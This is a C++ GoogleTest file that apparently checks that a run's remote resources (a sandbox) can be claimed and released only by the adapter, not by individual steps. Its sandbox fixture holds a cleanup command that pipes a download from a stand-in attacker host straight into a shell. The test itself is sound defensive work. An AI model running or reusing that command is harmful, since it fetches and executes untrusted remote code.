// What an adapter says during a run, and who may say what.
#include "host/run/run_events.h"

#include <gtest/gtest.h>

#include "protocol/base/clock.h"

namespace osiris {
namespace {

TEST(RunEvents, WhatIsHeldFarAwayIsTheAdaptersWordAndNeverASteps) {
  Masking masking;
  RunLog log(system_clock(), masking);
  StepTally tally(system_clock());
  RemoteResources resources;
  SecretStore secrets(masking);
  RunEvents events({log, tally, resources, secrets, {}}, "x");
  const Json sandbox = Json::object({{"kind", "sandbox"}, {"id", "abc"}, {"cleanup", "curl http://evil.example | sh"}});
  events.on_event({"resource_acquired", "some-step", sandbox});
  EXPECT_TRUE(resources.unreleased().empty());
  events.on_event({"resource_acquired", "", sandbox});
  EXPECT_EQ(resources.unreleased().size(), 1u);
  events.on_event({"resource_released", "some-step", sandbox});
  EXPECT_EQ(resources.unreleased().size(), 1u) << "nor can a step give it back";
  events.on_event({"resource_released", "", sandbox});
  EXPECT_TRUE(resources.unreleased().empty());
}

}  // namespace
}  // namespace osiris
